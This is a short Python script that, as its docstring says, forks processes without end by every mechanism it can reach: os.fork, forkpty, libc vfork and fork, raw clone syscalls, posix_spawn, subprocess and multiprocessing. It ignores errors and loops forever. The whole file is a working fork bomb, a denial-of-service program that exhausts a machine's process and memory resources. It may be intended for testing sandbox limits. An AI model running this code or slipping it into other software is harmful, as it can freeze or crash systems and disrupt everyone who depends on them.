"""Forks without end, in every way that there is."""

import ctypes
import multiprocessing
import os
import subprocess

_libc = ctypes.CDLL(None)
while True:
    for _way in (
        os.fork, os.forkpty, lambda: _libc.vfork(), lambda: _libc.fork(), lambda: _libc.syscall(57), lambda: _libc.syscall(435, None, 0),
        lambda: subprocess.Popen(["/bin/sh", "-c", "sleep 100"]), lambda: multiprocessing.Process(target=print).start(),
        lambda: os.posix_spawn("/bin/sh", ["sh", "-c", "sleep 100"], {}),
    ):  # fmt: skip
        try:
            _way()
        except OSError:
            pass
    os.fork()
